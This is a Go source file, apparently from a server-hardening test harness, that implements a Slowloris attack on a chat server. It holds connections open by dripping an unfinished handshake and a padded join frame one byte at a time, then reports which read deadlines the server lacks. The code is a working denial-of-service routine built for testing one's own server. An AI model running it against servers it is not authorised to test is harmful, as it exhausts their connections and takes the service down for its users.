package attack

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// dripped is the payload of the frame that slowloris sends one byte at a
// time after a finished handshake: a join event padded with spaces (still
// JSON) to 2 KiB, under the chat's 4 KiB limit, so that a byte every
// second never finishes it.
var dripped = append(mustJSON(event{Type: "join", Nick: "slowloris"}), bytes.Repeat([]byte(" "), 2000)...)

// Slowloris holds connections open by sending slowly, one byte every
// c.Every, in the two places where a server waits for bytes:
//
//   - K connections finish the opening handshake, then send a frame (a
//     join event) one byte at a time. A server with no deadline on frames
//     (nor on joining, nor a heartbeat) keeps each forever.
//   - N connections send the opening handshake one byte at a time, without
//     the empty line that would end it. A server with a deadline on the
//     whole head (not on each read) cuts them off.
//
// Each holds a descriptor and a goroutine for as long as the server waits.
// After T it counts the connections the server still keeps.
func Slowloris(c Config) (Result, error) {
	var p pool
	defer p.closeAll()
	start := time.Now()
	endT := start.Add(c.T)
	until := start.Add(c.T + c.Drain)
	// The frame senders first: they need an upgrade, before the head
	// senders fill a cap on connections.
	frames, _, err := c.upgrades(&p, c.K, until)
	if err != nil {
		return Result{}, err
	}
	var heads []*client
	for range c.N {
		cl, err := c.dial(&p, until)
		if err != nil && len(heads) == 0 {
			return Result{}, err
		}
		if err == nil {
			heads = append(heads, cl)
		}
	}
	head := []byte(c.head(""))
	head = head[:len(head)-2] // never the empty line that ends it
	var wg sync.WaitGroup
	var keptHeads, keptFrames atomic.Int32
	drip := func(cls []*client, b []byte, kept *atomic.Int32) {
		for _, cl := range cls {
			wg.Go(func() { trickle(cl, b, c.Every, endT) })
			wg.Go(func() {
				_ = cl.conn.SetReadDeadline(endT)
				if _, err := io.Copy(io.Discard, cl.br); errors.Is(err, os.ErrDeadlineExceeded) {
					kept.Add(1)
				}
			})
		}
	}
	drip(heads, head, &keptHeads)
	drip(frames, frame(opText, dripped), &keptFrames)
	wg.Wait()
	did := fmt.Sprintf("%d connections sent a handshake, and %d a frame after theirs, one byte every %s for up to %s",
		len(heads), len(frames), seconds(c.Every), seconds(c.T))
	switch {
	case keptHeads.Load() > 0 && keptFrames.Load() > 0:
		return Result{Line: fmt.Sprintf("%s: your server kept %d heads and %d frames to the end: no deadline on the head, nor on a frame", did, keptHeads.Load(), keptFrames.Load())}, nil
	case keptHeads.Load() > 0:
		return Result{Line: fmt.Sprintf("%s: your server kept %d heads to the end: no deadline on the head", did, keptHeads.Load())}, nil
	case keptFrames.Load() > 0:
		return Result{Line: fmt.Sprintf("%s: your server cut off the heads but kept %d frames to the end: no deadline on a frame", did, keptFrames.Load())}, nil
	}
	return Result{Held: true, Line: fmt.Sprintf("%s: your server cut off all %d after %s: the head and every frame have a deadline",
		did, len(heads)+len(frames), seconds(time.Since(start)))}, nil
}

// trickle writes b one byte at a time, every d, until end or until a write
// fails.
func trickle(cl *client, b []byte, d time.Duration, end time.Time) {
	for _, c := range b {
		if _, err := cl.conn.Write([]byte{c}); err != nil {
			return
		}
		wait := min(d, time.Until(end))
		if wait <= 0 {
			return
		}
		time.Sleep(wait)
	}
}
